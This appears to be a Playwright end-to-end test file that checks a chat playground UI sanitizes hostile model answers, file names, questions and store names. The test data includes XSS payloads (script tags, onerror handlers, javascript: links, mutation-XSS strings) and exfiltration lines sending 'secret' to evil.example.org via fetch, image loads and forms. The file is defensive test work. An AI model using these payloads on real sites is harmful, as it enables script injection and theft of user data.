"""Nothing that a document, a file's name or a model says can act in the playground: a browser is the witness."""

import pytest
import requests
from playwright.sync_api import expect

from tests.e2e.playing import ask, opened, ready, served, whole

EVIL = "https://evil.example.org"
ANSWER = f"""A <script>window.hit = 1</script> and <img src=x onerror="window.hit = 1"> and <svg onload="window.hit = 1">.

<style>body {{ display: none }}</style><iframe src="{EVIL}/frame"></iframe><form action="{EVIL}"><input name=q></form>

![the secret is 42]({EVIL}/?q=42) ![x](data:image/svg+xml;base64,PHN2Zy8+ "t") [run](javascript:window.hit=1)
[data](data:text/html,<script>1</script>) [local](/logout) [good]({EVIL}/page?a=1&b=2 "title")

[1]: {EVIL}/reference
A marker [1] and [one][1]. <b style="position:fixed">bold</b> <a href="{EVIL}" onclick="window.hit = 1">raw</a>

```html
<script>window.hit = 1</script>
```

```"><img src=x onerror=window.hit=1>
code
```

<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit=1&gt;">
"""
NAME = '<img src=x onerror="window.hit = 1">.txt'
TEXT = (
    f'The gnome has 7 hats. <script>window.hit = 1</script> <img src="{EVIL}/x"> ![x]({EVIL}/md) <style>* {{}}</style>'
)


def test_an_answer_says_what_it_likes_and_does_nothing(browser, server, upstream):
    upstream.text = ANSWER
    with opened(browser, server) as seen:
        page = seen.page
        text = whole(ask(page, "How tall is the tower?")).locator(".text")
        expect(text).to_contain_text("<script>window.hit = 1</script>")
        expect(text).to_contain_text("[image: the secret is 42]")
        page.wait_for_timeout(300)
        inert(seen)
        allowed = "p,br,hr,strong,em,del,blockquote,pre,code,ul,ol,li,a,span,h3,h4,h5,h6,table,thead,tbody,tr,th,td,div,button"
        assert text.locator(f":not({allowed})").count() == 0
        links = text.locator("a[href]").evaluate_all("all => all.map(a => [a.textContent, a.href, a.target, a.rel])")
        reference = f"{EVIL}/reference"  # an address that shows itself
        assert links == [
            ["good", f"{EVIL}/page?a=1&b=2", "_blank", "noopener noreferrer"],
            [reference, reference, "_blank", "noopener noreferrer"],
        ]
        assert (
            text.locator("[style], [onclick], [onerror], [id], [name], img, script, style, iframe, form").count() == 0
        )


def test_a_hostile_answer_that_was_kept_is_as_inert(browser, server, upstream):
    upstream.text = ANSWER
    with opened(browser, server) as seen:
        page = seen.page
        whole(ask(page, "How tall is the tower?"))
        page.reload()
        ready(page)
        expect(page.locator(".answer .text")).to_contain_text("[image: the secret is 42]")
        page.wait_for_timeout(300)
        inert(seen)


def test_a_hostile_question_and_title_are_text(browser, server, upstream):
    upstream.text = "Yes."
    question = '<img src=x onerror="window.hit = 1"> &amp; <b>bold</b>'
    with opened(browser, server) as seen:
        page = seen.page
        whole(ask(page, question))
        expect(page.get_by_role("heading", level=1)).to_have_text(question)
        expect(page.locator("#conversations a").first).to_have_text(question)
        inert(seen)


def test_a_hostile_document_and_its_name_are_text(browser, server, upstream):
    upstream.text = "It has seven [1]."
    with opened(browser, server) as seen:
        page = seen.page
        page.locator("main header").get_by_role("button", name="Add documents").click()
        given = {"name": NAME, "mimeType": "text/plain", "buffer": TEXT.encode()}
        page.locator("input[type=file]").set_input_files([given])
        expect(page.locator("#uploads li")).to_contain_text("Ready to be asked", timeout=20_000)
        expect(page.locator("#uploads .name")).to_have_text(NAME)
        page.get_by_role("dialog").get_by_role("button", name="Done").click()
        answer = whole(ask(page, "How many hats has the gnome?"))
        expect(answer.locator(".source")).to_have_text(f"1{NAME}")
        answer.locator(".marker").click()
        expect(page.locator("#panel-title")).to_have_text(NAME)
        expect(page.locator("#panel mark")).to_have_text(TEXT)
        page.wait_for_timeout(300)
        inert(seen)


def test_a_hostile_store_name_is_text(browser, server):
    name = '</option><script>window.hit = 1</script>"'
    made = requests.post(f"{server.url}/v1/vector_stores", json={"name": name}, timeout=5).json()
    with opened(browser, server) as seen:
        expect(seen.page.locator(f"#store option[value={made['id']}]")).to_have_text(f"{name} (0 files)")
        inert(seen)
    requests.delete(f"{server.url}/v1/vector_stores/{made['id']}", timeout=5)


@pytest.mark.parametrize(
    "attack",
    [
        "const s = document.createElement('script'); s.textContent = 'window.hit = 1'; document.body.append(s)",
        "const s = document.createElement('script'); s.src = 'https://evil.example.org/x.js'; document.body.append(s)",
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.hit = 1\">')",
        "document.body.innerHTML = '<b>x</b>'",
        "setTimeout('window.hit = 1')",
        "fetch('https://evil.example.org/?q=secret').catch(() => {})",
        "new Image().src = 'https://evil.example.org/?q=secret'",
        "const f = document.createElement('form'); f.action = 'https://evil.example.org'; document.body.append(f); f.submit()",
    ],
)
def test_what_would_get_in_nevertheless_is_stopped_by_the_browser(attacked, server, attack):
    page, blocked = attacked.page, len(attacked.blocked)
    stopped = page.evaluate(f"() => {{ try {{ {attack} }} catch (error) {{ return String(error); }} }}")
    page.wait_for_timeout(300)
    assert page.evaluate("window.hit ?? null") is None
    assert stopped or len(attacked.blocked) > blocked
    assert page.url.startswith(server.url)


def inert(seen):
    """Nothing of what was shown has run, was fetched, or was stopped only by the policy."""
    assert seen.page.evaluate("window.hit ?? null") is None
    seen.is_clean()


@pytest.fixture(scope="module")
def attacked(browser, server):
    """A page for all attacks: none that is stopped changes it."""
    with opened(browser, server) as seen:
        yield seen


@pytest.fixture(scope="module")
def server(tmp_path_factory, shared_upstream):
    with served(tmp_path_factory.mktemp("playground"), shared_upstream) as server:
        yield server
